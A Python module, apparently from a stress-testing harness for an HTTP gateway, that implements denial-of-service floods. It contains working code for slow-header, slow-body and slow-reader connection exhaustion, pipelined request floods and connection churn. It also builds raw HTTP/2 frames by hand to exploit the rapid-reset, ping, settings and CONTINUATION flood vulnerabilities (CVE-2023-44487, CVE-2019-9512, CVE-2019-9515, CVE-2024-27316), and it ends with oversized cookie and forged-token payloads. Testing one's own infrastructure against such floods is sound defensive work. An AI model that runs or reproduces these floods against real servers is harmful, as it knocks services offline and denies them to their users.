"""What floods a gate: each is called again and again with the gate and what it keeps, and returns how many it did (one, where
it says nothing). floods.py gives them their time."""

import re
import ssl
import struct


def answer(connection):
    """Reads one answer with a length; its status."""
    data = b""
    while b"\r\n\r\n" not in data:
        data += more(connection)
    head, body = data.split(b"\r\n\r\n", 1)
    length = re.search(rb"(?i)content-length: (\d+)", head)
    if not length:
        raise ConnectionError("an answer without a length")
    length = int(length.group(1))
    while len(body) < length:
        body += more(connection)
    return int(head.split()[1])


def more(connection):
    piece = connection.recv(65536)
    if not piece:
        raise ConnectionError("closed")
    return piece


def on_one(request):
    """On a connection that is kept while the gate keeps it."""

    def each(gate, kept):
        if "connection" not in kept:
            kept["connection"] = gate.connect()
        kept["connection"].sendall(request.replace(b"{host}", gate.host.encode()).replace(b"{begins}", begins(gate)))
        answer(kept["connection"])

    return each


def begins(gate):
    """How a pass of this gate's own begins: its version, and the key that it has to be tried with."""
    return re.search(rb"rolegate=([\w-]{24})", gate.request).group(1)


def churn(gate, _):
    gate.connect().close()


def in_line(gate, kept):
    """Fifty at once on each of eight connections."""
    if "wires" not in kept:
        kept["wires"] = [gate.connect() for _ in range(8)]
    request = f"GET /public/x HTTP/1.1\r\nHost: {gate.host}\r\n\r\n".encode()
    wire = kept["wires"][kept.get("at", 0) % 8]
    kept["at"] = kept.get("at", 0) + 1
    wire.sendall(request * 50)
    data = b""
    while data.count(b"HTTP/1.1 200") < 50:
        data += more(wire)
    return 50


def in_turn(kept, most, begin, go_on):
    """`most` connections that begin, and then one after the other goes on; who is thrown out begins again."""
    open_ones = kept.setdefault("open", [])
    if len(open_ones) < most:
        open_ones.append(begin())
        return
    at = kept["at"] = (kept.get("at", -1) + 1) % most
    try:
        go_on(open_ones[at])
    except OSError:
        open_ones[at].close()
        open_ones[at] = begin()


def slow_heads(gate, kept):
    """A thousand connections, and a byte on one of them."""

    def begin():
        connection = gate.connect()
        connection.sendall(b"GET /public/x HTTP/1.1\r\nHost: ")
        return connection

    in_turn(kept, 1000, begin, lambda connection: connection.sendall(b"x"))


def slow_bodies(gate, kept):
    """Two hundred uploads to an upstream that reads them whole, and a byte of one of them."""

    def begin():
        connection = gate.connect()
        lines = "Content-Type: text/plain\r\nContent-Length: 1000000\r\n"
        connection.sendall(f"POST /public/whole HTTP/1.1\r\nHost: {gate.host}\r\n{lines}\r\n".encode())
        return connection

    in_turn(kept, 200, begin, lambda connection: connection.sendall(b"x"))


def slow_readers(gate, kept):
    """Sixty-four downloads of 8 MB, and a few bytes read of one of them."""

    def begin():
        connection = gate.connect(takes=4096)
        connection.sendall(f"GET /public/large HTTP/1.1\r\nHost: {gate.host}\r\n\r\n".encode())
        return connection

    in_turn(kept, 64, begin, lambda connection: connection.recv(16) or connection.sendall(b"gone"))


# --- HTTP/2 (RFC 9113 §4.1), by hand: no client sends what these do ---

HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field that is not indexed (RFC 7541 §6.2.2), each part shorter than 127 bytes."""
    return b"\0" + b"".join(bytes([len(part)]) + part.encode() for part in (name, value))


def over_http2(each):
    """`each` gets a connection, what is kept for it, and the lines of a request."""

    def flood(gate, kept):
        if "wire" not in kept:
            kept["wire"] = gate.connect("h2")
            kept["wire"].sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
            kept["stream"] = -1
        lines = {":method": "GET", ":scheme": "https", ":authority": gate.host, ":path": "/public/x"}
        kept["stream"] += 2
        kept["wire"].settimeout(2)
        done = each(kept["wire"], kept["stream"], b"".join(literal(*line) for line in lines.items()))
        kept["wire"].settimeout(0)
        try:
            # What comes is read, so that nobody waits for us; an end is one.
            while more(kept["wire"]):
                pass
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        return done

    return flood


def resets(wire, stream, lines):
    """CVE-2023-44487: each request is taken back at once."""
    wire.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, lines) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))


def pings(wire, _, __):
    """CVE-2019-9512."""
    wire.sendall(frame(PING, 0, 0, b"8 bytes.") * 10)
    return 10


def settings(wire, _, __):
    """CVE-2019-9515."""
    wire.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 10)
    return 10


def continuations(wire, stream, lines):
    """CVE-2024-27316: a head without an end."""
    wire.sendall(frame(HEADERS, END_STREAM, 1, lines) if stream == 1 else frame(CONTINUATION, 0, 1, literal("x", "y" * 100)))


def head(lines, target="/x"):
    return f"GET {target} HTTP/1.1\r\nHost: {{host}}\r\n{lines}\r\n".encode()


CRUMBS = "a=;" * 10_000
# Nothing but decrypting it shows that it is none.
FORGED = f"rolegate={{begins}}{'A' * 16_000}"
STATE = f"/oauth2/callback?code=none&state={'A' * 43}"
